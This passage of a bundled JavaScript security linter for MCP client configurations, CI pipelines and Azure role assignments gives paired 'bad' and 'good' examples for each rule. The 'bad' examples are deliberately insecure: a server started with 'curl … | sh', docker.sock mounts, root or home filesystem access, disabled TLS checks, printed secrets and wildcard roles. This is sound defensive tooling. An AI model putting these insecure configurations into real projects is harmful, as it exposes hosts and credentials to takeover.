   why: "A home folder holds SSH keys, cloud profiles, browser data and the tokens of every other tool; a parent of the workspace holds the other repositories. Folders such as `~/.ssh`, `~/.aws` or `~/.config` hold the keys themselves. A server that works on one project needs none of them. `Documents`, `Desktop` and `Downloads` are only noted.",
   fix: "Name the folder of the project: `.`, `${workspaceFolder}` or a path inside it. A folder that servers are meant to have can be named in `filesystem-roots` of the configuration.",
   securitySeverity: 6.5,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/client/roots" ],
   bad: {
    file: ".cursor/mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "${userHome}"]\n    }\n  }\n}\n'
   },
   good: {
    file: ".cursor/mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "${workspaceFolder}"]\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/config-printed.about.js
  const config_printed_about_about = {
   summary: "A CI job prints or publishes an MCP configuration with secrets",
   why: "The CI system masks a secret only in the form in which it knows it. Inside of JSON it may be escaped, cut or encoded, and then the log shows it to everyone who may read the run. An artifact is not masked at all.",
   fix: "Do not print the file. To check it, print only the names: `jq '.mcpServers | keys'`. Better, write references into it and no secrets.",
   securitySeverity: 6.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#using-secrets", "https://learn.microsoft.com/azure/devops/pipelines/process/set-secret-variables" ],
   bad: {
    file: "azure-pipelines.yml",
    text: `trigger: none\npool: {vmImage: ubuntu-latest}\nsteps:\n  - bash: |\n      cat > mcp.json << EOF\n      {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n        "headers": {"Authorization": "Bearer $CRM_TOKEN"}}}}\n      EOF\n      cat mcp.json\n    env:\n      CRM_TOKEN: $(crmToken)\n`
   },
   good: {
    file: "azure-pipelines.yml",
    text: `trigger: none\npool: {vmImage: ubuntu-latest}\nsteps:\n  - bash: |\n      cat > mcp.json << 'EOF'\n      {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n        "headers": {"Authorization": "Bearer \${CRM_TOKEN}"}}}}\n      EOF\n      cat mcp.json\n    env:\n      CRM_TOKEN: $(crmToken)\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/config-written-in-script.about.js
  const config_written_in_script_about_about = {
   summary: "A CI step writes secrets into the configuration of an MCP client",
   why: "The secret is put into a file as text: it stays on a self-hosted runner, goes into an artifact or a cache with the folder, and is read by every later step. In a JSON string it has another form than the one that the CI system masks, so printing the file shows it. On a command line every process of the machine sees it.",
   fix: "Quote the here-document (`<<'EOF'`) and write a reference of the client (`${NAME}`); pass the secret to the step that starts the client in `env:`. The client puts it in itself, and nothing is written.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#using-secrets", "https://code.claude.com/docs/en/mcp" ],
   bad: {
    file: ".github/workflows/agent.yml",
    text: `on: workflow_dispatch\npermissions: {}\njobs:\n  agent:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          CRM_TOKEN: \${{ secrets.CRM_TOKEN }}\n        run: |\n          cat > "$RUNNER_TEMP/mcp.json" << EOF\n          {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n            "headers": {"Authorization": "Bearer $CRM_TOKEN"}}}}\n          EOF\n          claude -p "Summarise" --mcp-config "$RUNNER_TEMP/mcp.json"\n`
   },
   good: {
    file: ".github/workflows/agent.yml",
    text: `on: workflow_dispatch\npermissions: {}\njobs:\n  agent:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          CRM_TOKEN: \${{ secrets.CRM_TOKEN }}\n        run: |\n          cat > "$RUNNER_TEMP/mcp.json" << 'EOF'\n          {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n            "headers": {"Authorization": "Bearer \${CRM_TOKEN}"}}}}\n          EOF\n          claude -p "Summarise" --mcp-config "$RUNNER_TEMP/mcp.json"\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/credential-in-arguments.about.js
  const credential_in_arguments_about_about = {
   summary: "A credential is passed to an MCP server as an argument",
   why: "Arguments of a process are no secret: every user of the machine sees them in the list of processes, and crash reports, audit logs and monitoring keep them. That holds for a reference too, once the client has put its value in.",
   fix: "Pass the credential in the environment: most servers that take `--api-key` also read a variable such as `API_KEY`. For a container name the variable alone (`-e API_KEY`) and set it in `env`.",
   securitySeverity: 5,
   references: [ "https://cwe.mitre.org/data/definitions/214.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "search": {\n      "command": "npx",\n      "args": ["-y", "search-mcp@1.4.0", "--api-key", "${SEARCH_API_KEY}"]\n    }\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "search": {\n      "command": "npx",\n      "args": ["-y", "search-mcp@1.4.0"],\n      "env": {"API_KEY": "${SEARCH_API_KEY}"}\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/gateway-bypass.about.js
  const gateway_bypass_about_about = {
   summary: "MCP server is not reached through an allowed gateway",
   why: "The gateway checks who calls, limits how often and records every call. A server that is reached beside it has none of this: its calls are in no audit log, and a personal key takes the place of an identity. The rule looks only when the configuration of this project names the gateways (`gateways`).",
   fix: "Put the server behind the gateway and give the gateway's address here. A server that may stand beside it can be named in `servers` of the configuration.",
   securitySeverity: 6,
   references: [ "https://learn.microsoft.com/azure/api-management/mcp-server-overview" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://crm.example.com/mcp"}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://mcp.acme.com/crm"}\n  }\n}\n'
   },
   config: 'gateways: ["https://mcp.acme.com"]\n'
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/host-mount.about.js
  const host_mount_about_about = {
   summary: "The container of an MCP server has the host",
   why: "A container keeps a server away from the machine only as far as nothing is passed in. The socket of the container engine, `--privileged`, the host's root or a whole home folder undo all of it: who controls the server controls the host. The entry still looks contained.",
   fix: "Mount the one folder that the server works on, read-only where reading is enough, and leave out the socket and `--privileged`. A server that manages containers needs a host of its own.",
   securitySeverity: 8.8,
   references: [ "https://docs.docker.com/engine/security/#docker-daemon-attack-surface", "https://cwe.mitre.org/data/definitions/250.html" ],
   bad: {
    file: ".mcp.json",
    text: `{\n  "mcpServers": {\n    "files": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-v", "/var/run/docker.sock:/var/run/docker.sock", "mcp/files@sha256:${"4b1d".repeat(16)}"]\n    }\n  }\n}\n`
   },
   good: {
    file: ".mcp.json",
    text: `{\n  "mcpServers": {\n    "files": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-v", "\${PWD}/docs:/docs:ro", "mcp/files@sha256:${"4b1d".repeat(16)}"]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/insecure-transport.about.js
  const insecure_transport_about_about = {
   summary: "MCP server is reached without encryption",
   why: "Over `http://` anyone on the way reads the token and what the tools return, and can put in answers of their own, which the model takes for the server's. The addresses of the own machine and of containers on it are left alone.",
   fix: "Use `https://`. A server in the own network can stand behind the gateway, which terminates TLS.",
   securitySeverity: 6,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/basic/transports", "https://cwe.mitre.org/data/definitions/319.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "http://mcp.example.com/mcp"}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://mcp.example.com/mcp"}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/root-filesystem.about.js
  const root_filesystem_about_about = {
   summary: "MCP server has access to a root of the file system",
   why: "A server that may read `/`, a drive or all homes gives every key, token and document on the machine to whatever the model is talked into. A prompt in an issue or a web page is enough: no exploit is needed, reading files is what the server is for.",
   fix: "Give the server the one folder it works on: `.`, `${workspaceFolder}` or a path inside the workspace. For a container, mount that folder and nothing above it, read-only where reading is enough. A folder that servers are meant to have can be named in `filesystem-roots` of the configuration.",
   securitySeverity: 8.8,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/client/roots", "https://cwe.mitre.org/data/definitions/732.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "."]\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/secrets-service-access.about.js
  const secrets_service_access_about_about = {
   summary: "MCP server reaches a secrets manager with a personal key",
   why: "With such a server the model can read, and be talked into passing on, every secret that the key opens. The key is a person's or a service account's and lives long; the manager's log shows its owner, not the agent.",
   fix: "Keep secrets managers out of the reach of agents. What a job needs it can read by its own identity before the agent starts (`mcp-gatehouse secrets`), by name and just in time.",
   securitySeverity: 7.5,
   references: [ "https://genai.owasp.org/llmrisk/llm062025-excessive-agency/", "https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html" ],
   bad: {
    file: ".mcp.json",
    text: `{\n  "mcpServers": {\n    "vault": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-e", "VAULT_TOKEN", "hashicorp/vault-mcp-server@sha256:${"4b1d".repeat(16)}"],\n      "env": {"VAULT_TOKEN": "\${VAULT_TOKEN}"}\n    }\n  }\n}\n`
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"], "env": {"API_KEY": "${DOCS_KEY}"}}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/shell-pipeline.about.js
  const shell_pipeline_about_about = {
   summary: "MCP server is started from a script out of the network",
   why: "`curl … | sh` runs whatever the address answers at that moment, with the rights and credentials of anyone who starts the client: nothing was reviewed, nothing is pinned, and the address can answer each caller differently. A server whose command only fetches is none at all: it sends a request whenever the client starts. Commands that the client itself runs when it loads its configuration (`$(…)` of Crush, `headersHelper`) run as soon as the folder is opened and trusted.",
   fix: "Install the server beforehand from a package with an exact version, or keep the script in the repository. Let the environment carry what `$(…)` would fetch; keep a `headersHelper` in the configuration of the user or of the job, not of the project.",
   securitySeverity: 8.5,
   references: [ "https://cwe.mitre.org/data/definitions/494.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "sh", "args": ["-c", "curl -fsSL https://docs.example.com/mcp.sh | sh"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/tls-verification-disabled.about.js
  const tls_verification_disabled_about_about = {
   summary: "MCP server does not check TLS certificates",
   why: "Without checking the certificate, a connection is encrypted to anyone who answers: anyone on the way can take the token and change what the tools return. The switch is mostly set for one system with a certificate of its own and holds for all that the server talks to.",
   fix: "Remove the switch and name the certificate authority instead: `NODE_EXTRA_CA_CERTS`, `SSL_CERT_FILE` or `REQUESTS_CA_BUNDLE` with the path of its certificate.",
   securitySeverity: 7.4,
   references: [ "https://cwe.mitre.org/data/definitions/295.html", "https://nodejs.org/api/cli.html#node_extra_ca_certsfile" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "wiki": {"command": "npx", "args": ["-y", "wiki-mcp@1.2.3"], "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "wiki": {"command": "npx", "args": ["-y", "wiki-mcp@1.2.3"], "env": {"NODE_EXTRA_CA_CERTS": "certs/ca.pem"}}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/unbounded-filesystem.about.js
  const unbounded_filesystem_about_about = {
   summary: "MCP server reaches the whole disk by default and no limit is set",
   why: "Some servers take no folders as arguments: without a limit they read and write whatever their user can, and some run commands. Nothing in the configuration shows it, so it looks harmless in review.",
   fix: "Set the limit that the server knows (a flag or a variable, named in the finding), or run it in a container that has only the folder of the project.",
   securitySeverity: 7,
   references: [ "https://cwe.mitre.org/data/definitions/732.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "git": {"command": "uvx", "args": ["mcp-server-git==2026.1.14"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "git": {"command": "uvx", "args": ["mcp-server-git==2026.1.14", "--repository", "."]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/unknown-config-key.about.js
  const unknown_config_key_about_about = {
   summary: "MCP servers stand under a key that the client does not read",
   why: "Clients use different keys for the same thing (`mcpServers`, `servers`, `mcp`, `context_servers`, `mcp_servers`) and most ignore the others in silence. The servers do not run, and a review looks at a configuration that is none.",
   fix: "Use the key that the finding names, or move the file to where the client of this key looks for it.",
   securitySeverity: 1,
   references: [ "https://code.visualstudio.com/docs/copilot/reference/mcp-configuration", "https://code.claude.com/docs/en/mcp" ],
   bad: {
    file: ".vscode/mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   },
   good: {
    file: ".vscode/mcp.json",
    text: '{\n  "servers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/unpinned-server.about.js
  const unpinned_server_about_about = {
   summary: "MCP servers are fetched without an exact version",
   why: "Without an exact version `npx`, `uvx` and `docker run` fetch whatever the package's owner, or who has taken over the account, published last. The server runs with the rights and the credentials of anyone who starts it, and tools that were reviewed can change with the next start.",
   fix: "Pin the version: `package@1.2.3` for npm, `package==1.2.3` for Python, `image@sha256:…` for containers, `…@<commit>` for repositories; let a bot raise it. In a CI job it is a warning, since the job holds secrets.",
   securitySeverity: 4,
   references: [ "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse", "https://docs.docker.com/dhi/core-concepts/digests/" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/vulnerable-server.about.js
  const vulnerable_server_about_about = {
   summary: "MCP server has a known vulnerability or is archived",
   why: "Bridges and servers have had vulnerabilities by which a malicious server, page or document runs commands on the machine that starts them. The archived reference servers get no security updates at all, and are still what most examples on the web name.",
   fix: "Raise the version to the one that the finding names, or use the server of the vendor in place of the archived one.",
   securitySeverity: 7.5,
   references: [ "https://nvd.nist.gov/vuln/detail/CVE-2025-6514", "https://github.com/modelcontextprotocol/servers-archived" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"command": "npx", "args": ["-y", "mcp-remote@0.1.15", "https://mcp.example.com/mcp"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"command": "npx", "args": ["-y", "mcp-remote@0.1.38", "https://mcp.example.com/mcp"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/wrong-reference-syntax.about.js
  const wrong_reference_syntax_about_about = {
   summary: "A reference is written in the syntax of another MCP client",
   why: "Each client expands references in its own syntax and leaves all others as they are. `${API_KEY}` in the configuration of opencode is no reference: the server gets these ten characters as its key, fails to log in, and the next thing that people try is the key itself in plain text. It also tells the server which secrets there are.",
   fix: "Write the reference as the client of this file reads it: `${NAME}` for Claude Code and Copilot CLI, `${env:NAME}` or `${input:name}` for VS Code, `${env:NAME}` for Cline and Roo Code, `{env:NAME}` for opencode, `$NAME` for Gemini CLI, `env_vars` or `bearer_token_env_var` for Codex. Where a vendor does not say what its client expands, the finding is only a note.",
   securitySeverity: 4.5,
   references: [ "https://code.claude.com/docs/en/mcp", "https://code.visualstudio.com/docs/copilot/reference/mcp-configuration", "https://opencode.ai/docs/config/#variables" ],
   bad: {
    file: "opencode.json",
    text: '{\n  "mcp": {\n    "search": {\n      "type": "remote",\n      "url": "https://mcp.example.com/mcp",\n      "headers": {"Authorization": "Bearer ${SEARCH_TOKEN}"}\n    }\n  }\n}\n'
   },
   good: {
    file: "opencode.json",
    text: '{\n  "mcp": {\n    "search": {\n      "type": "remote",\n      "url": "https://mcp.example.com/mcp",\n      "headers": {"Authorization": "Bearer {env:SEARCH_TOKEN}"}\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/about.js
  const mcp_about_abouts = {
   "auto-approved-tools": auto_approved_tools_about_about,
   "broad-filesystem": broad_filesystem_about_about,
   "config-printed": config_printed_about_about,
   "config-written-in-script": config_written_in_script_about_about,
   "credential-in-arguments": credential_in_arguments_about_about,
   "gateway-bypass": gateway_bypass_about_about,
   "host-mount": host_mount_about_about,
   "insecure-transport": insecure_transport_about_about,
   "root-filesystem": root_filesystem_about_about,
   "secrets-service-access": secrets_service_access_about_about,
   "shell-pipeline": shell_pipeline_about_about,
   "tls-verification-disabled": tls_verification_disabled_about_about,
   "unbounded-filesystem": unbounded_filesystem_about_about,
   "unknown-config-key": unknown_config_key_about_about,
   "unpinned-server": unpinned_server_about_about,
   "vulnerable-server": vulnerable_server_about_about,
   "wrong-reference-syntax": wrong_reference_syntax_about_about
  };
  var mcp = __webpack_require__(36308);
  // CONCATENATED MODULE: ./build/shared/lint/people/example.js
  const exampleConfig = "people: people.yml\n";
  const examplePeople = {
   "people.yml": `- name: Jane Doe\n  upn: jane.doe@example.com\n  oid: 11111111-2222-4333-8444-555555555555\n  github: jdoe\n  left: 2026-01-31\n`
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/people/departed-person.about.js
  const departed_person_about_about = {
   summary: "Right, review, trust or alert of a person who has left",
   why: "An account is closed on the last day, and what was given to it by name stays in repositories: members of groups, role assignments, bindings of clusters, reviewers of environments, lines of CODEOWNERS, conditions on who started a run, receivers of alerts, users in values of Helm charts. Some of it works again as soon as somebody takes the login or the address. A federated subject names a repository and not a person; only the repositories of a personal account carry a name, and that is where a subject is reported. The rule runs where the configuration names a people file. It compares logins, user principal names, object ids and addresses as a whole: authors, comments, tags, labels, annotations and descriptions are no rights, and a surname that is a word is nobody.",
   fix: "Delete the entry, or name a team or group in its place. `mcp-gatehouse offboard` lists everything of one person, with the commands for what is outside of the repository.",
   securitySeverity: 8,
   references: [ "https://learn.microsoft.com/entra/identity/users/users-revoke-access", "https://docs.github.com/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-owners", "https://docs.github.com/actions/reference/security/oidc" ],
   config: exampleConfig,
   beside: examplePeople,
   bad: {
    file: "CODEOWNERS",
    text: `*          @example/platform\n/gateway/  @jdoe\n`
   },
   good: {
    file: "CODEOWNERS",
    text: `# Set up by @jdoe\n*          @example/platform\n/gateway/  @example/gateway-owners\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/people/personal-credential.about.js
  const personal_credential_about_about = {
   summary: "Credential of a person who has left, in a pipeline or on a runner",
   why: "A personal access token works until it expires or is revoked, no matter who holds it by then, and pipelines go on with it for years. In the incident that this project began with, a runner had the cached credentials of somebody who had left, and read documents at night for three weeks. Reported are secrets, variables and service connections that are named after a person who has left, in workflows, pipelines and infrastructure; secrets of a cluster that a workload, a Helm chart or a secret store reads by such a name; homes of such a person on runners, and runners that get a token of which nothing says whose it is. A virtual machine counts as a runner where what it runs at its first start sets one up: custom data, user data and extensions, also as templates and encoded. Of charts, files of values, releases of Flux and Terraform and applications of Argo CD are read; of a self-hosted runner, `.env`, `.credentials` and the like. Tokens of bots and apps are left alone. The rule runs where the configuration names a people file; a given name alone is a guess, and such findings have a low confidence.",
   fix: "Revoke the credential where it was issued, and delete it. Use a federated identity (`mcp-gatehouse token`), the `GITHUB_TOKEN` of the job, or the token of a GitHub App.",
   securitySeverity: 7,
   references: [ "https://docs.github.com/organizations/managing-programmatic-access-to-your-organization/reviewing-and-revoking-personal-access-tokens-in-your-organization", "https://learn.microsoft.com/azure/devops/organizations/accounts/admin-revoke-user-pats" ],
   config: exampleConfig,
   beside: examplePeople,
   bad: {
    file: ".github/workflows/release.yml",
    text: `name: Release\non:\n  push:\n    branches: [main]\npermissions: {}\njobs:\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: gh release create "v1.$GITHUB_RUN_NUMBER" --repo "$GITHUB_REPOSITORY"\n        env:\n          GH_TOKEN: \${{ secrets.JDOE_PAT }}\n`
   },
   good: {
    file: ".github/workflows/release.yml",
    text: `name: Release\non:\n  push:\n    branches: [main]\npermissions:\n  contents: write\njobs:\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: gh release create "v1.$GITHUB_RUN_NUMBER" --repo "$GITHUB_REPOSITORY"\n        env:\n          GH_TOKEN: \${{ github.token }}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/people/personal-runner.about.js
  const personal_runner_about_about = {
   summary: "Runner, agent or pool of a person who has left",
   why: "A runner on the machine of one person runs with what that person left on it: sessions of `az` and `gh`, keys, tokens in the environment, earlier check-outs. When the person leaves, the machine often goes on, and nobody else knows what is on it. Reported are labels, pools, machines and scale sets that are named after a person who has left, also in values of Helm charts and in the settings that a runner keeps in its folder (`.runner`, `.agent`, `.service`); runners that are registered with the account of one; and units of systemd and jobs of launchd that run as one or are named after one. The rule runs where the configuration names a people file; a given name alone is a guess, and such findings have a low confidence.",
   fix: "Stop the runner, take it out of the organization, and delete what is cached on the machine. Run the jobs on runners that belong to a team, with an account of their own.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/actions/how-tos/manage-runners/self-hosted-runners/remove-runners", "https://learn.microsoft.com/azure/devops/pipelines/agents/pools-queues" ],
   config: exampleConfig,
   beside: examplePeople,
   bad: {
    file: ".github/workflows/nightly.yml",
    text: `name: Nightly\non:\n  schedule:\n    - cron: '17 2 * * *'\npermissions: {}\njobs:\n  documents:\n    runs-on: [self-hosted, jdoe-workstation]\n    steps:\n      - run: make nightly\n`
   },
   good: {
    file: ".github/workflows/nightly.yml",
    text: `name: Nightly\non:\n  schedule:\n    - cron: '17 2 * * *'\npermissions: {}\njobs:\n  documents:\n    runs-on: [self-hosted, platform-team]\n    steps:\n      - run: make nightly\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/people/about.js
  const people_about_abouts = {
   "departed-person": departed_person_about_about,
   "personal-credential": personal_credential_about_about,
   "personal-runner": personal_runner_about_about
  };
  var people = __webpack_require__(18789);
  var pipelines_about = __webpack_require__(13417);
  var pipelines = __webpack_require__(1861);
  // CONCATENATED MODULE: ./build/shared/lint/rules/roles/broad-role.about.js
  const assignment = (role, scope) => `resource "azurerm_user_assigned_identity" "mcp" {\n  name                = "id-mcp"\n  resource_group_name = "rg-mcp"\n  location            = "westeurope"\n}\n\nresource "azurerm_role_assignment" "mcp" {\n  principal_id         = azurerm_user_assigned_identity.mcp.principal_id\n  role_definition_name = "${role}"\n  scope                = "${scope}"\n}\n`;
  const broad_role_about_about = {
   summary: "Identity of a program holds Owner, Contributor or the right to give roles",
   why: "Anyone who gets an MCP server or a pipeline to act for them can do what it can do: by a prompt, a pull request or a stolen token. Owner, Contributor, User Access Administrator and Role Based Access Control Administrator reach everything in their scope, and Key Vault Secrets Officer on a subscription reaches every secret in it. On a subscription or above it is an error, on a resource group a warning, on one resource a note. Roles of people, eligible assignments of Privileged Identity Management, and roles to assign roles that a condition narrows are left alone. What is not known in the repository is never reported.",
   fix: "Give the identity the role for what it does, on the resource that it works on: Key Vault Secrets User, AcrPull, Storage Blob Data Contributor, Container Apps Contributor. An identity that deploys gets Contributor on its own resource group at most, and the right to assign roles only with a condition that lists them.",
   securitySeverity: 8.8,
   references: [ "https://learn.microsoft.com/azure/role-based-access-control/best-practices", "https://learn.microsoft.com/azure/role-based-access-control/built-in-roles", "https://learn.microsoft.com/azure/role-based-access-control/delegate-role-assignments-overview" ],
   bad: {
    file: "roles.tf",
    text: assignment("Contributor", "/subscriptions/00000000-0000-0000-0000-000000000000")
   },
   good: {
    file: "roles.tf",
    text: assignment("Key Vault Secrets User", "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-mcp/providers/Microsoft.KeyVault/vaults/kv-mcp")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/roles/cluster-identity-role.about.js
  const script = principal => `#!/usr/bin/env bash\nset -euo pipefail\n${principal}\naz role assignment create --role "Storage Blob Data Reader" --assignee-object-id "$PRINCIPAL_ID" --assignee-principal-type ServicePrincipal --scope "$STORAGE_ID"\n`;
  const cluster_identity_role_about_about = {
   summary: "Role for pods is given to the control plane of their cluster",
   why: "The identity of an AKS cluster (`identity.principalId`) belongs to its control plane, which uses it for networks, disks and addresses. No pod can get a token for it: a role on storage, vaults or queues does nothing for the MCP server in the pod, and it lets anyone who controls the cluster read the data. The kubelet identity, a separate one, pulls images. Roles that a control plane needs, such as Network Contributor, are left alone.",
   fix: "Make a managed identity for the workload, bind it to the service account of the pod with a federated credential, and give it the role. For AcrPull use `az aks update --attach-acr`, or the kubelet identity.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/azure/aks/use-managed-identity", "https://learn.microsoft.com/azure/aks/workload-identity-overview" ],
   bad: {
    file: "grant.sh",
    text: script("PRINCIPAL_ID=$(az aks show --resource-group rg-mcp --name aks-mcp --query identity.principalId --output tsv)")
   },
   good: {
    file: "grant.sh",
    text: script("PRINCIPAL_ID=$(az identity show --resource-group rg-mcp --name id-mcp-server --query principalId --output tsv)")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/roles/golden-principal.about.js
  const identity = name => `resource "azurerm_user_assigned_identity" "${name}" {\n  name                = "id-${name}"\n  resource_group_name = "rg-${name}"\n  location            = "westeurope"\n}\n\n`;
  const golden_principal_about_role = (name, principal, environment) => `resource "azurerm_role_assignment" "${name}" {\n  principal_id         = azurerm_user_assigned_identity.${principal}.principal_id\n  role_definition_name = "Container Apps Contributor"\n  scope                = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-${environment}/providers/Microsoft.App/containerApps/mcp"\n}\n`;
  const golden_principal_about_about = {
   summary: "One identity holds several broad roles, or roles in production and elsewhere",
   why: "An identity that opens everything is the one that an attacker needs: a leaked token of a test pipeline is then the key to production, and no log tells which of its many users acted. It is reported where one identity of a program holds two or more of Owner, Contributor, User Access Administrator and Role Based Access Control Administrator on a resource group or above, or roles that change something both in production and in another environment, told by the names of the scopes.",
   fix: "Make an identity for each purpose and each environment. Trust each of them from the environment of the pipeline that needs it, and give it one narrow role.",
   securitySeverity: 8.8,
   references: [ "https://learn.microsoft.com/azure/role-based-access-control/best-practices", "https://learn.microsoft.com/entra/identity/managed-identities-azure-resources/managed-identity-best-practice-recommendations" ],
   bad: {
    file: "roles.tf",
    text: `${identity("deploy")}${golden_principal_about_role("test", "deploy", "mcp-test")}\n${golden_principal_about_role("production", "deploy", "mcp-prod")}`
   },
   good: {
    file: "roles.tf",
    text: `${identity("test")}${identity("production")}${golden_principal_about_role("test", "test", "mcp-test")}\n${golden_principal_about_role("production", "production", "mcp-prod")}`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/roles/wildcard-role.about.js
  const wildcard_role_about_definition = action => `resource "azurerm_role_definition" "mcp" {\n  name  = "MCP operator"\n  scope = "/subscriptions/00000000-0000-0000-0000-000000000000"\n\n  permissions {\n    actions     = ["*/read", "${action}"]\n    not_actions = []\n  }\n}\n`;
  const wildcard_role_about_about = {
   summary: "Custom role allows every action, or assigning roles to others",
   why: "A role of your own is written to be narrower than the built-in ones. With `*`, `*/write` or `*/action` it is Owner or Contributor under another name, which no review of built-in roles finds. With `Microsoft.Authorization/roleAssignments/write` its holder can make themselves Owner. `*/read` and all actions of one service are left alone, and so are actions that `notActions` take back.",
   fix: "List the actions that the role is for. Give the right to assign roles by Role Based Access Control Administrator with a condition that lists the roles.",
   securitySeverity: 8.6,
   references: [ "https://learn.microsoft.com/azure/role-based-access-control/custom-roles", "https://learn.microsoft.com/azure/role-based-access-control/role-definitions" ],
   bad: {
    file: "roles.tf",
    text: wildcard_role_about_definition("*")
   },
   good: {
    file: "roles.tf",
    text: wildcard_role_about_definition("Microsoft.App/containerApps/write")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/roles/about.js
  const roles_about_abouts = {
   "broad-role": broad_role_about_about,
   "cluster-identity-role": cluster_identity_role_about_about,
   "golden-principal": golden_principal_about_about,
